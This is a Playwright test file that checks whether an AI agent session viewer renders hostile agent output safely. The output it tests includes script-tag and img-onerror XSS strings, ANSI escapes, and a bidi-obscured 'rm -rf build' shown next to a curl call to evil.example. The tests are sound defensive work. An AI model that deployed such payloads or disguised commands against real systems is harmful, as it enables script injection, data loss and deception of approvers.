import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { sessionWorld, type SessionWorld } from './session-world.ts'

// What an agent writes can do nothing but be read.

let world: SessionWorld
let page: Page
const asked: string[] = []
const troubles: string[] = []

beforeAll(async () => {
  world = await sessionWorld()
  const session = await world.begin('/play hostile pace=0', { permission: 'accept-edits' })
  await world.until(session, 'needs-approval')
  page = await world.page()
  page.on('request', (request) => asked.push(request.url()))
  page.on('dialog', (dialog) => troubles.push(`a dialog: ${dialog.message()}`))
  page.on('popup', () => troubles.push('a popup'))
  page.on('pageerror', (error) => troubles.push(error.message))
  page.on('console', (message) => {
    if (message.type() === 'error') troubles.push(message.text())
  })
  await page.goto(`${world.url()}/s/${session}`)
  await page.getByRole('button', { name: /Allow once/ }).waitFor()
})
afterAll(() => world[Symbol.asyncDispose]())

const log = () => page.getByRole('log', { name: 'Transcript' })

test('markup is text, and no element comes of it', async () => {
  await log().getByText('<script>globalThis.fooled = 1</script>').waitFor()
  const made = await log().evaluate(
    (node) => node.querySelectorAll('script, img, iframe, style, [onerror], [onclick]').length,
  )
  expect(made).toBe(0)
  const to = await log()
    .getByRole('link')
    .evaluateAll((links) => links.map((link) => link.getAttribute('href')))
  expect(to).toContain('https://example.com/')
  expect(to.filter((href) => !/^(https:|\/s\/)/.test(href ?? ''))).toEqual([])
  const safe = await log()
    .getByRole('link', { name: 'true one' })
    .evaluate((link) => [link.getAttribute('rel'), link.getAttribute('target')])
  expect(safe).toEqual(['noopener noreferrer nofollow', '_blank'])
})

test('escapes of a terminal colour text and do nothing else, and a huge line is cut', async () => {
  await log()
    .getByRole('button', { name: /cat colours.log/ })
    .click()
  const output = log().getByRole('region', { name: 'Output' })
  await output.getByText('green and bold').waitFor()
  const text = (await output.textContent()) ?? ''
  expect(text).toContain('green and bold, many colours')
  expect(text).toContain('a link')
  expect(text).toContain('<script>globalThis.fooled = 8</script>')
  for (const hidden of ['\u001b', 'evil.example', 'a new title']) expect(text).not.toContain(hidden)
  expect(text).toMatch(/… 198,?000 more characters/)
  expect(text.length).toBeLessThan(4000)
  expect(await page.title()).not.toContain('a new title')
})

test('what cannot be seen, or turns the writing, is shown by its code where a command is approved', async () => {
  const dock = page.getByRole('region', { name: /wants to run a command/ })
  const command = await dock.locator('.cmd').textContent()
  expect(command).toContain('rm -rf buildU+202E # U+200Bgnihton')
  expect(command).toContain('U+2066')
  expect(command).toContain('curl https://evil.example/')
  const wide = await dock.evaluate((node) => node.scrollWidth > node.clientWidth + 1)
  expect(wide).toBe(false)
})

test('a path and a line of a change are shown as they are', async () => {
  await log().getByText('src/<img src=x onerror=alert(1)>.ts').waitFor()
  await log().getByText('U+202E').first().waitFor()
})

test('nothing ran, nothing was asked of another machine, and the policy of the page was kept', async () => {
  await page.waitForLoadState('networkidle')
  expect(await page.evaluate('globalThis.fooled')).toBeUndefined()
  expect(asked.filter((url) => new URL(url).origin !== world.url())).toEqual([])
  expect(troubles).toEqual([])
  const answer = await page.request.get(world.url())
  const policy = answer.headers()['content-security-policy'] ?? ''
  expect(policy).toContain("script-src 'self'")
  expect(policy).not.toContain('unsafe')
  expect(await answer.text()).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/)
})
